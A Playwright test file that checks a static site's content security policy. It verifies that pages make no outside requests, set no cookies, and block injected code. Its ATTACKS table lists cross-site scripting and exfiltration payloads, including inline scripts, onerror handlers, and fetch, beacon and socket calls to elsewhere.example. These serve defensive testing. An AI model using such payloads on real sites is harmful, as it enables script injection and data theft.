"""Every page in every state keeps to the policy, to its own host and to what a reader agreed to."""

from collections.abc import Iterator
from pathlib import Path
from typing import Literal

import pytest
from playwright.sync_api import Browser, BrowserContext, Page

from tests.security.recording import Recording, record
from tests.server.nginx import serve
from tests.site.html import language_of, pages
from tests.tables import Show

SCHEMES: list[Literal["light", "dark"]] = ["light", "dark"]


@pytest.fixture(scope="module")
def address(built_site: Path) -> Iterator[str]:
    """The real site on nginx, which sends the policy too."""
    with serve(built_site) as (served, _):
        yield served


@pytest.fixture(params=SCHEMES)
def context(browser: Browser, request: pytest.FixtureRequest) -> Iterator[BrowserContext]:
    context = browser.new_context(
        viewport={"width": 1280, "height": 800}, color_scheme=request.param
    )
    yield context
    context.close()


def search(page: Page) -> None:
    page.locator("[data-md-component=search-query]").fill("some")
    page.locator(".md-search-result__link").first.wait_for(state="attached")
    page.keyboard.press("Escape")


def tick(page: Page) -> int:
    boxes = page.locator("article input[type=checkbox]:enabled").all()
    for box in boxes:
        box.check()
    return len(boxes)


def switch_language(page: Page) -> None:
    page.locator(".languages__link:not([aria-current])").last.click()
    page.wait_for_load_state("networkidle")


@pytest.mark.parametrize("language", ["fi", "sv", "en"])
def test_every_page_keeps_to_the_policy_and_to_its_host(
    context: BrowserContext, address: str, built_site: Path, language: str, show: Show
) -> None:
    recording = record(context)
    page = context.new_page()
    urls = [url for url, _ in pages(built_site) if language_of(url) == language]
    ticked = 0
    for url in urls:
        page.goto(address + url, wait_until="networkidle")
        ticked += tick(page)
        search(page)
        page.locator("[data-switches=scheme]").click()
        switch_language(page)
    assert len(urls) > 10
    assert clean(recording, address)
    assert context.cookies() == []
    for kind, count in recording.kinds().items():
        show("Requests recorded", language, kind, count, "to other hosts: 0, refused: 0")
    show(
        "Pages and states visited",
        language,
        f"{len(urls)} pages",
        f"loaded, searched, scheme and language switched, {ticked} boxes ticked: no violation",
    )


def clean(recording: Recording, address: str) -> bool:
    """Tell whether nothing happened that must not; if something did, the assertion shows it."""
    assert recording.complaints == []
    assert recording.dialogs == []
    assert recording.refused == []
    assert recording.to_other_hosts(address) == []
    return True


def test_a_missing_page_keeps_to_the_policy_and_to_its_host(
    context: BrowserContext, address: str
) -> None:
    recording = record(context)
    page = context.new_page()
    for language in ("", "sv/", "en/"):
        page.goto(f"{address}{language}no/such/page/", wait_until="networkidle")
        search(page)
        page.locator("[data-switches=scheme]").click()
    assert [refused.split("/", 3)[-1] for refused in recording.refused] == [
        f"{language}no/such/page/" for language in ("", "sv/", "en/")
    ]
    assert recording.to_other_hosts(address) == []
    assert [text for text in recording.complaints if "404" not in text] == []


ATTACKS = {
    "inline script": "element('script', {textContent: 'ran()'})",
    "inline module": "element('script', {type: 'module', textContent: 'ran()'})",
    "event handler": "html('<img src=/none onerror=ran()>')",
    "script address": "html('<a href=javascript:ran()>x</a>').querySelector('a').click()",
    "script from elsewhere": "element('script', {src: 'https://elsewhere.example/x.js'})",
    "script as data": "element('script', {src: 'data:text/javascript,ran()'})",
    "style element": "element('style', {textContent: 'body {color: rgb(1, 2, 3)}'})",
    "style attribute": "document.body.setAttribute('style', 'color: rgb(1, 2, 3)')",
    "frame": "element('iframe', {src: 'https://elsewhere.example/'})",
    "frame with text": "element('iframe', {srcdoc: '<script>parent.ran()</' + 'script>'})",
    "plug-in": "element('object', {data: 'https://elsewhere.example/x.swf'})",
    "image from elsewhere": "element('img', {src: 'https://elsewhere.example/x.png'})",
    "fetch": "fetch('https://elsewhere.example/').catch(() => {})",
    "socket": "new WebSocket('wss://elsewhere.example/')",
    "beacon": "navigator.sendBeacon('https://elsewhere.example/', 'x')",
    "worker": "new Worker('https://elsewhere.example/x.js')",
    "form": "html('<form action=https://elsewhere.example/>').querySelector('form').submit()",
    "base": "document.head.append(Object.assign(document.createElement('base'),"
    " {href: 'https://elsewhere.example/'}))",
}
PREPARE = """
window.ran = () => { document.title = "ran" }
window.violations = 0
document.addEventListener("securitypolicyviolation", () => { window.violations += 1 })
window.element = (name, properties) =>
  document.body.appendChild(Object.assign(document.createElement(name), properties))
window.html = (text) => {
  const box = element("div", {})
  box.innerHTML = text
  return box
}
"""


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("host", ["header and page", "page alone"])
def test_the_policy_is_in_force(
    page: Page, address: str, server: str, host: str, attack: str, show: Show
) -> None:
    """Whatever got into a page: the browser refuses to run, show, fetch or send it."""
    asked: list[str] = []
    page.goto(address if host == "header and page" else server, wait_until="networkidle")
    page.on("request", lambda request: asked.append(request.url))
    page.evaluate(f"() => {{ {PREPARE} }}")
    page.evaluate(f"() => {{ try {{ {ATTACKS[attack]} }} catch {{}} }}")
    page.wait_for_function("window.violations > 0")
    assert page.title() != "ran"
    assert page.evaluate("getComputedStyle(document.body).color") != "rgb(1, 2, 3)"
    assert not [url for url in asked if "elsewhere.example" in url]
    show("Attacks on an open page", attack, host, "refused by the browser")


def test_code_made_of_text_does_not_run(page: Page, server: str) -> None:
    """The test's own code may do so, so the page's is asked: a timer takes text as code."""
    page.goto(server)
    page.evaluate(f"() => {{ {PREPARE} setTimeout('ran()', 0) }}")
    page.wait_for_function("window.violations > 0")
    assert page.title() != "ran"
